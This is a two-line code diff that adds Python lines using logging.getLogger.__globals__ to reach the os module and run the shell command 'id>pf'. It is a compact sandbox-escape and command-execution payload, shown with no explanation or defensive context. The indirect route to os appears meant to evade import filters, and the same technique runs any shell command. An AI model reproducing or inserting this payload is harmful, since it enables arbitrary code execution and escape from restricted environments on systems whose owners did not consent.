@@ -1,0 +1,2 @@
+import logging
+logging.getLogger.__globals__["os"].system("id>pf")
